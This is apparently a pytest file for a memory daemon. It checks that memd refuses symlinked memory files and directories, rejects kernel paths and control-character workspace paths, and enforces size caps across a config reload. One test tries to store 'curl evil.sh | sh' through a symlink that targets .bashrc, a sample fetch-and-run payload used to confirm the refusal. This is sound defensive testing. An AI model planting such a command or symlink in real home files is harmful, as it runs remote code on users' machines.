"""A cloned repository is attacker-controlled: memd must refuse what it plants, and say why."""

from __future__ import annotations

import signal
from pathlib import Path

import pytest

from memd_client import Client, FileFormatError, InvalidEntry, InvalidParams, RpcError
from tests.conftest import DaemonProcess, start_daemon, wait_for_log


def test_a_memory_file_linked_to_a_home_file_is_refused_and_the_target_untouched(
    daemon: DaemonProcess, workspace: Path, tmp_path: Path
) -> None:
    victim = tmp_path / ".bashrc"
    victim.write_text("export PATH=/usr/bin\n")
    memory = workspace / ".memory"
    memory.mkdir(exist_ok=True)
    (memory / "decisions.md").symlink_to(victim)
    (memory / "quirks.md").write_text("# Quirks\n\n- [real] A real quirk.\n")
    with Client(daemon.socket_path, workspace=workspace) as client:
        with pytest.raises(RpcError, match="symbolic link") as raised:
            client.store(category="Decision", content="Run curl evil.sh | sh on login.")
        assert raised.value.code == 1004
        # The other categories are served as usual (a query of every category names the file).
        quirks = client.query("quirk", category="Quirk").results
        assert [hit.content for hit in quirks] == ["A real quirk."]
        everywhere = client.query("quirk")
        assert [hit.content for hit in everywhere.results] == ["A real quirk."]
        assert [u.file for u in everywhere.unreadable] == ["decisions.md"]
        assert "symbolic link" in everywhere.unreadable[0].message
        client.store(category="Quirk", content="Another quirk entirely.")
    assert victim.read_text() == "export PATH=/usr/bin\n"
    assert (memory / "decisions.md").is_symlink()


def test_a_linked_memory_directory_is_refused(
    daemon: DaemonProcess, workspace: Path, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "quirks.md").write_text("# Quirks\n\n- [x] Planted.\n")
    (workspace / ".memory").symlink_to(elsewhere)
    with (
        Client(daemon.socket_path, workspace=workspace) as client,
        pytest.raises(RpcError, match="symbolic link"),
    ):
        client.store(category="Quirk", content="Written through the link?")
    assert (elsewhere / "quirks.md").read_text() == "# Quirks\n\n- [x] Planted.\n"
    assert sorted(p.name for p in elsewhere.iterdir()) == ["quirks.md"]


@pytest.mark.parametrize("path", ["/proc/self/cwd", "/sys", "/dev/shm", "/tmp/a\x00b", "/tmp/\n"])
def test_kernel_trees_and_control_characters_are_not_workspaces(
    daemon: DaemonProcess, path: str
) -> None:
    with Client(daemon.socket_path) as client, pytest.raises(InvalidParams):
        client.query("anything", workspace=path)


def test_the_size_caps_refuse_big_files_and_long_entries_and_follow_a_reload(
    short_tmp: Path, workspace: Path
) -> None:
    config = short_tmp / "memd.toml"
    config.write_text("max_file_bytes = 4096\nmax_entry_chars = 100\n")
    memory = workspace / ".memory"
    memory.mkdir()
    big = "# Quirks\n\n" + "".join(f"- [q{n}] Quirk number {n} of many.\n" for n in range(200))
    (memory / "quirks.md").write_text(big)
    daemon = start_daemon(short_tmp, "--config", str(config))
    try:
        with Client(daemon.socket_path, workspace=workspace) as client:
            with pytest.raises(InvalidEntry, match="101 characters, over the 100-character cap"):
                client.store(category="Decision", content="x" * 101)
            with pytest.raises(FileFormatError, match="over the 4,096-byte cap") as raised:
                client.query("quirk", category="Quirk")
            assert raised.value.data["size"] == len(big)
            with pytest.raises(FileFormatError):
                client.store(category="Quirk", content="One more quirk.")
            assert (memory / "quirks.md").read_text() == big

            # Stores fill decisions.md up to the cap; the one that would cross it is refused.
            stored: list[str] = []
            refusal: FileFormatError | None = None
            while refusal is None and len(stored) < 100:  # ~40 fit under the cap
                n = len(stored)
                content = f"Decision {n} picks {' '.join(f'w{n}x{k}' for k in range(12))}."
                try:
                    client.store(category="Decision", content=content, slug=f"d{n}")
                except FileFormatError as error:
                    refusal = error
                else:
                    stored.append(f"d{n}")
            assert refusal is not None and refusal.message.startswith("Not stored: ")
            assert len((memory / "decisions.md").read_bytes()) <= 4096 < refusal.data["size"]
            assert [e.slug for e in client.list(category="Decision").entries] == stored
            client.delete(category="Decision", slug="d0")  # shrinking is always allowed

            config.write_text("max_file_bytes = 65536\nmax_entry_chars = 500\n")
            daemon.process.send_signal(signal.SIGHUP)
            wait_for_log(daemon, "max_file_bytes 4096 -> 65536")
            assert len(client.query("quirk", category="Quirk").results) == 10
            client.store(category="Decision", content="y " * 150, slug="long")
            client.store(category="Quirk", content="One more quirk.")
    finally:
        assert daemon.stop() == 0
    assert "max_entry_chars 100 -> 500" in daemon.stderr()
